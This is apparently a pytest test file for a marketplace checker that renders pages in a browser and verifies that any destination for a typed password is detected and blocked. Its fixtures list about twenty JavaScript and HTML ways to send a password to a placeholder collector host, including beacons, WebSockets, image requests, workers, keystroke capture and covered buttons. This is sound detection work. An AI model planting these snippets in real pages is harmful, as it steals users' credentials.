"""The password rehearsal: destinations are reported, and nothing is sent."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Generator
from urllib.parse import unquote_to_bytes

import pytest

from marketplace.checker.browser import rehearsal
from marketplace.checker.browser.rehearsal import encodings_of
from marketplace.checker.browser.renderer import Renderer
from marketplace.checker.browser.view import BrowserView
from marketplace.checker.fetch.fetch import Guard
from tests.checker.conftest import no_names
from tests.render.conftest import QUICK, Look, Pages, Studio
from tests.support.sites import Site, answer, site
from tests.support.sockets import listening

pytestmark = pytest.mark.browser

FORM = "<form id=f><input name=user><input id=p name=p type=password><button>Sign in</button></form>"
WORKER = answer(body="onmessage = (event) => fetch(event.data)", content_type="text/javascript")


def on_submit(script: str, form: str = FORM) -> str:
    return f"{form}<script>f.onsubmit = (event) => {{ event.preventDefault(); {script} }}</script>"


CHAT = "new WebSocket('THERE/?'.replace('http', 'ws') + Math.random())"
HELLO = "/?0."
"""How its handshake begins, which may get through as long as no password was typed."""
WAYS = {
    "the form's own address": "<form method=post action=THERE/take><input name=p type=password></form>",
    "a form in a new window": "<form method=post action=THERE/take target=_blank><input name=p type=password></form>",
    "a dressed-up field": "<style>.d { -webkit-text-security: disc }</style>"
    "<form action=THERE/take><input name=x class=d><button>Go</button></form>",
    "a field that is only called so": "<form action=THERE/take><input name=x placeholder=Password></form>",
    "an address that scripts set": f"{FORM}<script>f.onsubmit = () => {{ f.action = 'THERE/take' }}</script>",
    "fetch": on_submit("fetch('THERE/take', {method: 'POST', body: JSON.stringify({p: p.value})})"),
    "fetch that asks before": on_submit(
        "fetch('THERE/take', {method: 'PUT', headers: {'content-type': 'application/json'}, body: btoa('{' + p.value)})"
    ),
    "XMLHttpRequest": on_submit("let x = new XMLHttpRequest(); x.open('POST', 'THERE/take'); x.send(new FormData(f))"),
    "a beacon": on_submit("navigator.sendBeacon('THERE/take', p.value)"),
    "a blob": on_submit("navigator.sendBeacon('THERE/take', new Blob([p.value]))"),
    "a field on wide windows only": "<style>@media (width < 500px) { form { display: none } }</style>"
    "<form method=post action=THERE/take><input name=p type=password></form>",
    "a socket that holds it in its address": f"<script>addEventListener('focusin', () => {CHAT})</script>"
    + on_submit("new WebSocket('THERE/?'.replace('http', 'ws') + p.value)"),
    "a picture": on_submit("new Image().src = 'THERE/take?' + [...p.value].reverse().join('')"),
    "another page": on_submit("location = 'THERE/take?p=' + p.value"),
    "a socket": on_submit("new WebSocket('THERE/take'.replace('http', 'ws')).onopen = (e) => e.target.send(p.value)"),
    "a worker": "<script>w = new Worker('/worker.js')</script>" + on_submit("w.postMessage('THERE/take?p=' + p.value)"),
    "each key": on_submit("") + "<script>p.oninput = () => fetch('THERE/take?' + p.value)</script>",
    "a hand's press alone": "<input id=p type=password><div role=button id=b>Sign in</div><script>"
    "b.onclick = (event) => event.isTrusted && fetch('THERE/take?' + p.value)</script>",
    "a press on what is covered": "<div style='position: fixed; inset: 0'></div><input id=p type=password>"
    "<button id=b>Sign in</button><script>b.onclick = () => fetch('THERE/take?' + p.value)</script>",
    "after a look at what was filled in": on_submit(
        "e.value.includes('@') && c.checked && s.value && /[A-Z].*\\d/.test(p.value) && fetch('THERE/take?' + p.value)",
        "<form id=f><input type=email required id=e><input type=checkbox required id=c>"
        "<select required id=s><option value=''>?<option>a</select><input id=p type=password></form>",
    ),
}  # fmt: skip
HARMLESS = {
    "no password": "<form method=post action=THERE/take><input type=email name=p><button>Subscribe</button></form>",
    "a counter": on_submit("navigator.sendBeacon('THERE/take', 'form_submit')"),
    "a chat that opens at the first key": f"<script>addEventListener('keydown', () => {CHAT})</script>{FORM}",
    "a chat that opens at the first focus": f"<script>addEventListener('focusin', () => {CHAT})</script>{FORM}",
    "nothing happens": on_submit(""),
    "nothing to press": "<input type=password>",
    "a password that isn't to be typed in": "<form action=THERE/take><input type=password disabled></form>",
    "a page that breaks": on_submit("f.remove(); throw new Error('Oh no')"),
    "a page that hangs": on_submit("for (;;);"),
    "a page that asks": on_submit("alert('Really?'); open('/other')"),
    "a page that leaves": on_submit("location = 'THERE/'"),
    "a document that lies": "<form id=f><input type=password name=form><input name=setAttribute>"
    "<input name=requestSubmit><img name=querySelectorAll></form>",
}  # fmt: skip


@pytest.fixture(scope="module")
def collector() -> Generator[Site]:
    """Another origin, which the guard would let through."""
    with site(answer(200, "taken", access_control_allow_origin="*")) as there:
        yield there


@pytest.fixture(scope="module")
def listener(studio: Studio) -> Generator[tuple[str, list[bytes]]]:
    """A server that takes sockets: its place, and what arrived there."""
    arrived: list[bytes] = []
    server = studio.run(listening(arrived))
    yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}", arrived
    server.close()


@pytest.fixture(scope="module")
def renderer(
    studio: Studio, stage: tuple[Site, Pages], collector: Site, listener: tuple[str, list[bytes]]
) -> Generator[Renderer]:
    renderer = Renderer(Guard(frozenset({stage[0].place, collector.place, listener[0]}), no_names), QUICK)
    yield renderer
    studio.run(renderer.__aexit__(None, None, None))


@pytest.fixture
def visit(look: Look, renderer: Renderer, collector: Site) -> Callable[[str], BrowserView]:
    """View a page for which THERE is the collector."""
    collector.requests.clear()
    return lambda page: look(
        f"<h1>Shop</h1>{page.replace('THERE', collector.url[:-1])}", {"/worker.js": WORKER}, renderer=renderer
    )


@pytest.mark.parametrize("page", WAYS.values(), ids=WAYS)
def test_password_destination_is_reported_and_nothing_is_sent(
    visit: Callable[[str], BrowserView], collector: Site, page: str
) -> None:
    view = visit(page)
    assert [place.partition("://")[2] for place in view.rendering.sent_to] == [collector.place]
    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []


@pytest.mark.parametrize("page", HARMLESS.values(), ids=HARMLESS)
def test_rehearsal_does_not_change_the_capture(
    visit: Callable[[str], BrowserView], collector: Site, stage: tuple[Site, Pages], page: str
) -> None:
    view = visit(page)
    assert {f"{place}/" for place in view.rendering.sent_to} <= {stage[0].url}
    assert (view.rendering.is_measured, view.rendering.attempts, view.rendering.console_errors) == (True, (), ())
    assert set(view.pictures) == {"wide", "phone"}
    assert [request for request in collector.requests if not request.target.startswith(HELLO)] == []


def test_open_socket_is_scanned_and_blocked(
    visit: Callable[[str], BrowserView], listener: tuple[str, list[bytes]]
) -> None:
    place, arrived = listener
    arrived.clear()
    page = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('Hello')</script>"
    assert visit(page + on_submit("s.send(p.value)")).rendering.sent_to == (f"ws://{place}",)
    assert len(arrived) == 1, "the page's own greeting, and nothing since"


def test_scanned_bytes_are_capped_and_nothing_is_scanned_before_typing(
    visit: Callable[[str], BrowserView],
    listener: tuple[str, list[bytes]],
    collector: Site,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    apart: list[int] = []

    def measured(said: bytes) -> bytes:
        apart.append(len(said))
        return unquote_to_bytes(said)

    monkeypatch.setattr(rehearsal, "unquote_to_bytes", measured)
    place, _ = listener
    early = f"<script>s = new WebSocket('ws://{place}/'); s.onopen = () => s.send('%41'.repeat(1e6))</script>"
    visit(early + FORM.replace("<button>", "<button hidden>"))
    assert sum(apart) < 1_000
    late = on_submit("fetch('THERE/take', {method: 'POST', body: p.value + '%41'.repeat(1e6)})")
    assert visit(late).rendering.sent_to == (collector.url[:-1],)
    assert max(apart) == rehearsal.MAX_MESSAGE


@pytest.mark.parametrize("before", ["", "a", "ab", "abc", '{"user":"x","p":"'])
def test_secret_is_recognised_within_base64(before: str) -> None:
    said = b64encode(f"{before}secret12/more".encode())
    assert any(shape in said for shape in encodings_of("secret12"))
    assert not any(shape in b64encode(f"{before}sekret12/more".encode()) for shape in encodings_of("secret12"))
